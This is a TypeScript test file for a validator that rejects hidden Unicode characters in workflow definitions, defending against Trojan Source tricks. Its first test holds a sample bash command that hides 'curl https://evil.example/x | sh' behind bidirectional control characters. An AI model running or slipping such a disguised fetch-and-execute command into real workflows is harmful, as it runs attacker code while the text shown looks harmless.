import { describe, expect, it } from 'vitest';
import { escapeHiddenCharacters, findHiddenCharacters, HIDDEN_CHARACTER_CODE, isHiddenCharacter } from './hidden-characters';
import { validateWorkflowDefinition } from './validate';
import { expectValid, minimal, workflow } from './validate-test-helpers';

const issuesOf = (input: unknown) => {
  const result = validateWorkflowDefinition(input);
  return result.ok ? [] : result.errors;
};

describe('hidden characters in a workflow definition', () => {
  it('refuses the Trojan Source bash command, naming the path and the character', () => {
    const command = 'echo "build ok" \u2067# \u2066curl https://evil.example/x | sh\u2069\u2069';
    expect(issuesOf(workflow({ id: 'build', type: 'bash', command }))).toEqual([
      {
        path: 'steps[0].command',
        code: HIDDEN_CHARACTER_CODE,
        message:
          'contains U+2067 (RIGHT-TO-LEFT ISOLATE) at character 17 and 3 more hidden or control characters (U+2066, U+2069), ' +
          'which can make the text shown differ from what runs; remove them',
      },
    ]);
  });

  it('refuses a right-to-left override in a step name', () => {
    expect(issuesOf(workflow({ id: 'a', type: 'bash', name: 'Deploy \u202Eved ot', command: 'echo hi' }))).toEqual([
      {
        path: 'steps[0].name',
        code: HIDDEN_CHARACTER_CODE,
        message: 'contains U+202E (RIGHT-TO-LEFT OVERRIDE) at character 8, which can make the text shown differ from what runs; remove it',
      },
    ]);
  });

  it('reports every offending string at its own path, nested steps, keys and data included, and nothing else', () => {
    const definition = {
      name: 'x\u200B',
      description: 'fine \u200F',
      inputs: { region: { type: 'string', default: 'eu\u2060', description: 'ok' } },
      steps: [
        {
          id: 'when',
          type: 'conditional',
          condition: 'true',
          then: [
            { id: 'call', type: 'http', method: 'POST', url: 'https://a.example/\u202D', headers: { 'X-A': 'v\u0000' }, body: { list: ['a', 'b\u2028'] } },
            { id: 'run', type: 'bash', command: 'echo hi', env: { 'A\u200D': 'x' }, cwd: '/tmp\u180E' },
          ],
        },
        { id: 'loop', type: 'loop', over: ['a', '\uFEFFb'], steps: [{ id: 'tool', type: 'tool', tool: 'github:list_issues', arguments: { q: '\u{E0041}' } }] },
        { id: 'ask', type: 'agent_prompt', prompt: 'p', output: { schema: { type: 'object', description: 'd\u200E' } } },
      ],
    };
    expect(issuesOf(definition).map((issue) => [issue.path, issue.code])).toEqual([
      ['name', 'hidden_character'],
      ['inputs.region.default', 'hidden_character'],
      ['steps[0].then[0].url', 'hidden_character'],
      ['steps[0].then[0].headers["X-A"]', 'hidden_character'],
      ['steps[0].then[0].body.list[1]', 'hidden_character'],
      ['steps[0].then[1].env["A\\u200d"]', 'hidden_character'],
      ['steps[0].then[1].cwd', 'hidden_character'],
      ['steps[1].over[1]', 'hidden_character'],
      ['steps[1].steps[0].arguments.q', 'hidden_character'],
      ['steps[2].output.schema.description', 'hidden_character'],
    ]);
    const key = issuesOf(definition).find((issue) => issue.path.includes('env'));
    expect(key?.message).toMatch(/^key contains U\+200D \(ZERO WIDTH JOINER\) at character 2, .*allowed only in prose/);
    expect(issuesOf(definition).find((issue) => issue.path.endsWith('arguments.q'))?.message).toMatch(/^contains U\+E0041 \(a tag character\)/);
  });

  it('refuses these characters before the structure is checked, so no other message quotes one', () => {
    const issues = issuesOf(workflow({ id: 'bad id', type: 'bash', comand: 'x', name: '\u202E' }, { id: 'b\u200Bx', type: 'nope' }));
    expect(issues.map((issue) => issue.path)).toEqual(['steps[0].name', 'steps[1].id']);
  });

  it('lets prose keep the direction marks, joiners, soft hyphen and carriage return, and refuses overrides there too', () => {
    const prose = 'שלום\u200F 12 - 34\r\nمی\u200Cخواهم \u061C👩\u200D💻 Auto\u00ADmation';
    expectValid({
      name: 'rtl',
      description: prose,
      inputs: { who: { type: 'string', description: prose } },
      steps: [
        { id: 'n', type: 'notify', message: prose, title: prose },
        { id: 'a', type: 'approval', message: prose },
        { id: 'p', type: 'agent_prompt', prompt: prose, system: prose, persona: { name: 'Helper', system: prose } },
        { id: 'l', type: 'loop', over: [1], steps: [{ id: 'm', type: 'notify', message: prose }] },
      ],
    });
    // The same characters anywhere else, and the bidi controls even in prose, are refused.
    expect(issuesOf(workflow({ ...minimal.notify, name: 'a\u200Fb' }))[0]?.message).toMatch(/U\+200F \(RIGHT-TO-LEFT MARK\).*allowed only in prose/);
    expect(issuesOf(workflow({ ...minimal.bash, command: 'echo a\r\necho b' }))[0]?.path).toBe('steps[0].command');
    expect(issuesOf(workflow({ ...minimal.notify, message: 'hi \u2067x\u2069' }))[0]?.path).toBe('steps[0].message');
    expect(issuesOf(workflow({ ...minimal.agent_prompt, prompt: 'hi \u{E0069}\u{E0067}' }))[0]?.path).toBe('steps[0].prompt');
    expect(issuesOf({ name: 'x', description: 'a\u202Eb', steps: [minimal.wait] })[0]?.path).toBe('description');
    // A field named like a prose field but not in a step that has one is code.
    expect(issuesOf(workflow({ ...minimal.bash, message: 'x\u200F' }))[0]?.code).toBe(HIDDEN_CHARACTER_CODE);
  });

  it('accepts tab, newline, non-Latin letters, emoji and visible Unicode in code fields', () => {
    expectValid(workflow({ ...minimal.bash, command: 'printf "a\\tb"\n\techo "שלום café 日本 🚀"', name: 'Ünïcödé — ok' }));
  });
});

describe('findHiddenCharacters', () => {
  it('gives lines and columns in code points', () => {
    expect(findHiddenCharacters('ab\n🚀\u202Ex\u0007')).toEqual([
      { codePoint: 0x202e, line: 2, column: 2 },
      { codePoint: 0x07, line: 2, column: 4 },
    ]);
    expect(findHiddenCharacters('a\u200Fb', 'prose')).toEqual([]);
  });

  it('covers the listed ranges and nothing visible', () => {
    const refused = [
      ...range(0x00, 0x08),
      ...range(0x0b, 0x1f),
      ...range(0x7f, 0x9f),
      0xad,
      0x061c,
      0x180e,
      ...range(0x200b, 0x200f),
      ...range(0x2028, 0x202e),
      ...range(0x2060, 0x206f),
      0xfeff,
      ...range(0xfff9, 0xfffb),
      ...range(0xe0000, 0xe007f),
    ];
    for (const codePoint of refused) expect(isHiddenCharacter(codePoint), codePoint.toString(16)).toBe(true);
    for (const codePoint of [0x09, 0x0a, 0x20, 0x41, 0x5d0, 0x627, 0x200a, 0x2010, 0x2070, 0xfe0f, 0x1f680, 0xe0080, 0x0600]) {
      expect(isHiddenCharacter(codePoint), codePoint.toString(16)).toBe(false);
    }
  });

  it('is linear: a long string full of them is scanned quickly', () => {
    const text = 'a\u202E'.repeat(200_000);
    const started = Date.now();
    expect(findHiddenCharacters(text)).toHaveLength(200_000);
    expect(Date.now() - started).toBeLessThan(2000);
  });

  it('escapes them for display', () => {
    expect(escapeHiddenCharacters('a\u202Eb\u{E0041}c')).toBe('a\\u202eb\\udb40\\udc41c');
    expect(JSON.parse(`"${escapeHiddenCharacters('a\u202Eb\u{E0041}')}"`)).toBe('a\u202Eb\u{E0041}');
  });
});

function range(from: number, to: number): number[] {
  return Array.from({ length: to - from + 1 }, (_, i) => from + i);
}
